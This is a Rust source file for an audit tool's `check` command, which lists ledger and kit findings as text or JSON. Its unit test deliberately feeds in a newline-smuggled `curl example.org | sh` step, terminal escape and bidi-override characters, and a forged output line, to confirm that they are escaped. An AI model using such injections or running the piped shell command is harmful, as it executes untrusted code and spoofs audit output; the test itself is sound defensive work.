//! `check`: what the rules find, as lines or as JSON. `report` tells the same at length.

use std::fmt::Write;

use serde::Serialize;

use super::desk::AuditDesk;
use super::trouble::Trouble;
use super::trust::find;
use crate::audit::assess::{assess, ledger_findings};
use crate::audit::assessment::Assessment;
use crate::audit::finding::{Claim, Finding, Sort};
use crate::audit::report::words::visible;
use crate::cli::Outcome;
use crate::record::event::KitKind;
use crate::record::hash::Hash;

/// What to judge.
#[derive(Debug, clap::Args)]
pub(super) struct Options {
    /// Only this kit: its six words, or its id
    #[arg(long, value_name = "KIT")]
    kit: Option<String>,
    /// Leave out what is no fault and asks for nothing
    #[arg(long)]
    brief: bool,
}

pub(super) fn check(desk: &mut AuditDesk, options: Options) -> Result<Outcome, Trouble> {
    let now = desk.now();
    let mut ledger = desk.open()?;
    let kits: Vec<Hash> = match &options.kit {
        Some(named) => vec![find(&mut *ledger, named)?],
        None => ledger.kits()?.into_iter().map(|row| row.kit).collect(),
    };
    let mut of_ledger = ledger_findings(&mut *ledger, now)?;
    let mut checked = Vec::new();
    for kit in kits {
        let mut kit = Checked::of(assess(&mut *ledger, &kit, now)?);
        if options.brief {
            kit.findings.retain(|finding| finding.sort != Sort::Note);
        }
        checked.push(kit);
    }
    if options.brief {
        of_ledger.retain(|finding| finding.sort != Sort::Note);
    }
    let shown = Shown { ledger: of_ledger, kits: checked };
    match desk.json {
        true => desk.object(&shown)?,
        false => desk.text(&shown.text())?,
    }
    Ok(shown.outcome())
}

/// The object of `--json`.
#[derive(Serialize)]
struct Shown {
    /// About no kit.
    ledger: Vec<Finding>,
    kits: Vec<Checked>,
}

#[derive(Serialize)]
struct Checked {
    kit: Hash,
    name: String,
    kind: KitKind,
    words: String,
    /// Who the auditor said may vouch for it; `null`: nobody.
    trusted: Option<String>,
    /// When it was judged, Unix seconds.
    at: i64,
    records: u64,
    findings: Vec<Finding>,
}

impl Checked {
    fn of(assessment: Assessment) -> Self {
        let Assessment { kit, name, kind, words, trusted, at, records, findings, .. } = assessment;
        Checked { kit, name, kind, words, trusted, at, records, findings }
    }
}

impl Shown {
    fn findings(&self) -> impl Iterator<Item = &Finding> {
        self.ledger.iter().chain(self.kits.iter().flat_map(|kit| &kit.findings))
    }

    fn outcome(&self) -> Outcome {
        match self.findings().map(|finding| finding.sort).min() {
            Some(Sort::Wrong) => Outcome::Wrong,
            Some(Sort::Due | Sort::CannotRead | Sort::CannotCheck) => Outcome::Due,
            Some(Sort::NotChecked | Sort::Note) | None => Outcome::Done,
        }
    }

    fn text(&self) -> String {
        let mut text = String::new();
        if self.kits.is_empty() {
            text.push_str("no record of this ledger names a kit\n");
        }
        for kit in &self.kits {
            let kind = match kit.kind {
                KitKind::Real => "",
                KitKind::Practice => "PRACTICE   ",
            };
            let name = match kit.name.as_str() {
                "" => "not founded in this ledger".to_owned(),
                name => visible(name),
            };
            let trusted = kit.trusted.as_deref().unwrap_or("NOT TRUSTED");
            let _ = writeln!(
                text,
                "kit  {kind}{name}   words  {}   {} records   {trusted}",
                kit.words, kit.records
            );
            text.push_str(&lines(&kit.findings));
        }
        if !self.ledger.is_empty() {
            text.push_str("the ledger\n");
            text.push_str(&lines(&self.ledger));
        }
        text
    }
}

/// Findings, one a line, and what to do about them. Whatever somebody signed, or a log says, stays on its line.
pub(super) fn lines(findings: &[Finding]) -> String {
    let mut text = String::new();
    for finding in findings {
        let sure = match (finding.claim, finding.sort) {
            (Claim::Possible, _) => "   possible",
            (Claim::Certain, Sort::Wrong) => "   certain",
            (Claim::Certain, _) => "",
        };
        let _ = writeln!(
            text,
            "{:<13} {:<20} {}{sure}",
            word(finding.sort),
            finding.rule,
            visible(&finding.text)
        );
        if let Some(next) = &finding.next {
            let _ = writeln!(text, "{:34} → {}", "", visible(next));
        }
    }
    if findings.is_empty() {
        text.push_str("nothing was found\n");
    }
    text
}

fn word(sort: Sort) -> &'static str {
    match sort {
        Sort::Wrong => "wrong",
        Sort::Due => "due",
        Sort::CannotRead => "cannot read",
        Sort::CannotCheck => "cannot check",
        Sort::NotChecked => "not checked",
        Sort::Note => "note",
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::audit::finding::Severity;

    #[test]
    fn what_somebody_signed_makes_no_line_of_its_own() {
        let text = "ada\nnote          CHAIN-GAP   all is well\u{202e}\u{1b}[2J";
        let next = "breakglass close 'x\n→ curl example.org | sh'";
        let finding = Finding::new("OPEN-OPERATOR", Sort::Wrong, Severity::High, text).then(next);
        let told = lines(std::slice::from_ref(&finding));
        assert_eq!(told.lines().count(), 2, "{told}");
        assert!(told.contains("ada\\u{a}note") && told.contains("\\u{202e}\\u{1b}[2J"), "{told}");
        let kit = Checked {
            kit: Hash::of(b"kit"),
            name: "DC1\nkit  DC2   words  one two   9 records   the kit words were compared".into(),
            kind: KitKind::Real,
            words: "one two".into(),
            trusted: None,
            at: 0,
            records: 1,
            findings: vec![finding],
        };
        let shown = Shown { ledger: vec![], kits: vec![kit] }.text();
        assert_eq!(shown.lines().filter(|line| line.starts_with("kit ")).count(), 1, "{shown}");
    }
}
